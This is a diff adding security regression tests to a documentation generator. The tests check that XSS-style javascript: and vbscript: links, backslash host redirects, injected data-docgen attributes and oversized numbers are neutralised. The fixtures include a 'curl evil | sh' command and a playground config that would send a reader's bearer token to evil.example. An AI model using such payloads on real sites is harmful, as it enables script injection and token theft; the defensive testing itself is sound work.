@@ -77,6 +77,52 @@ def test_safe_urls_are_kept(url: str) -> None:
     assert safe_url(url)
 
 
+ROOT_PAGE_LINKS = """---
+title: Home
+---
+
+[e](/javascript:alert(1)%2F%2F) ![i](/javascript:alert(2)%2F%2F.png)
+
+<a href="/javascript:alert(3)%2F%2F">a</a> <a href="/\\\\evil.example/x">b</a>
+
+<Card title="c" href="/javascript:alert(4)%2F%2F" img="/javascript:alert(5)%2F%2F.png">x</Card>
+
+<img src="/vbscript:x.png" />
+"""
+
+
+def test_root_relative_links_on_a_root_page_never_become_a_scheme(tmp_path: Path) -> None:
+    """A link from the site's root page to ``/javascript:alert(1)%2F%2F`` was written as
+    ``href="javascript:alert(1)%2F%2F/"``, which a click runs (``alert(1)///``), and
+    ``/\\\\host`` as ``\\\\host``, another site."""
+    (tmp_path / "docs.json").write_text('{"name": "x", "navigation": {"pages": ["index"]}}')
+    (tmp_path / "index.mdx").write_text(ROOT_PAGE_LINKS)
+    result = _docgen(tmp_path, "build", str(tmp_path / "docs.json"), "-o", str(tmp_path / "o"))
+    assert result.returncode == 0, result.stdout + result.stderr
+    html = (tmp_path / "o" / "index.html").read_text()
+    urls = re.findall(r'(?:href|src)="([^"]*)"', html)
+    assert sum("alert(" in u for u in urls) == 5 and any("evil.example" in u for u in urls)
+    for url in urls:
+        assert not re.match(r"[a-z][a-z0-9+.-]*:", url) or url.startswith("https:"), url
+        assert not url.startswith(("//", "\\", "/\\")), url
+
+
+def test_pages_never_write_the_attributes_docgens_scripts_read() -> None:
+    """playground.js reads the first ``.op-layout[data-docgen-playground]`` and, in auth mode,
+    fetches its ``src`` with the reader's bearer token: a page could write one (only document
+    order kept the real one first). Other ``data-*`` attributes stay."""
+    from docgen.render.mdx import render_mdx
+
+    page = (
+        "<div className=\"op-layout\" data-docgen-playground='{\"mode\":\"auth\",\"src\":"
+        "\"https://evil.example/\"}' data-MDX-copy data-x=\"1\">a</div>\n\n"
+        'x <span data-docgen-copy="curl evil | sh">y</span>\n'
+    )
+    html = render_mdx(page, 1, "./").rendered.html
+    assert "data-docgen" not in html.lower() and "data-mdx" not in html.lower(), html
+    assert 'data-x="1"' in html
+
+
 def test_every_template_autoescapes() -> None:
     env = environment()
     for name in ("x.txt", "x.md", "x.xml", "x.html"):
@@ -219,6 +265,13 @@ HOSTILE_TEXTS = {
                       "nesting"),
     "deep-json": ("openapi.json", '{"openapi": "3.0.3", "x": ' + "[" * DEEP + "]" * DEEP + "}",
                   "nesting"),
+    # Python reads and writes integers of at most 4,300 digits: these were internal errors.
+    "long-int-json": ("openapi.json", '{"openapi": "3.0.3", "x": ' + "7" * 5000 + "}",
+                      "openapi.json:1:27: error[spec-parse-error]"),
+    "long-int-yaml": ("openapi.yaml", SPEC_HEAD + "x: " + "7" * 5000 + "\n",
+                      "openapi.yaml:3:4: error[spec-parse-error]"),
+    "long-hex-yaml": ("openapi.yaml", SPEC_HEAD + "x: 0x" + "f" * 4000 + "\n",
+                      "openapi.yaml:3:4: error[spec-parse-error]"),
 }
 
 
@@ -250,6 +303,34 @@ def test_deep_config_and_frontmatter_are_exit_1(tmp_path: Path, where: str) -> N
         result = _docgen(tmp_path, command, str(tmp_path / "docs.json"))
         assert result.returncode == 1
         assert code in result.stdout + result.stderr, (result.stdout + result.stderr)[-500:]
+
+
+@pytest.mark.parametrize("where", ["config", "frontmatter", "expression"])
+def test_numbers_longer_than_python_reads_are_clear_errors(tmp_path: Path, where: str) -> None:
+    """A 5,000-digit number in docs.json or frontmatter is an error at its place; in an MDX
+    expression it is shown as written (it was an internal error); a long run of digits with a
+    letter after it is read at once (a backtracking pattern took 20 s for each)."""
+    config, page = {"name": "x", "navigation": {"pages": ["index"]}}, "# Hi\n"
+    digits = "7" * 5000
+    if where == "config":
+        text = json.dumps(config)[:-1] + f', "x": {digits}}}'
+        (tmp_path / "docs.json").write_text(text)
+        expected = f"docs.json:1:{text.index(digits) + 1}: error[config-parse-error]"
+    else:
+        (tmp_path / "docs.json").write_text(json.dumps(config))
+        if where == "frontmatter":
+            page = f"---\ntitle: {digits}\n---\n"
+            expected = "index.mdx:2:8: error[page-parse-error]"
+        else:
+            long_and_letter = "{" + "7" * 19_000 + "x}\n\n"
+            page = f"# Hi\n\n{{{digits}}}\n\n" + long_and_letter * 8
+            expected = "index.mdx:3:1: warning[mdx-unsupported]"
+    (tmp_path / "index.mdx").write_text(page)
+    for command in ("check", "build"):
+        result = _docgen(tmp_path, command, str(tmp_path / "docs.json"), timeout=60)
+        output = result.stdout + result.stderr
+        assert result.returncode == (0 if where == "expression" else 1), output[-500:]
+        assert expected in output, output[-500:]
 
 
 def test_yaml_11_values_are_shown_as_written(tmp_path: Path) -> None:
